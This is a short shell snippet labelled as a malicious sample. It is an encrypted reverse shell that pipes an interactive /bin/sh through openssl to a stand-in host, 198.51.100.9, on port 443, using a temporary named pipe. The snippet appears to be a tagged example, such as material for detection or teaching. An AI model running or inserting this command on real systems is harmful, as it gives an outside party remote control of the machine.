# malicious: an encrypted reverse shell
mkfifo /tmp/s
/bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.9:443 > /tmp/s
rm /tmp/s
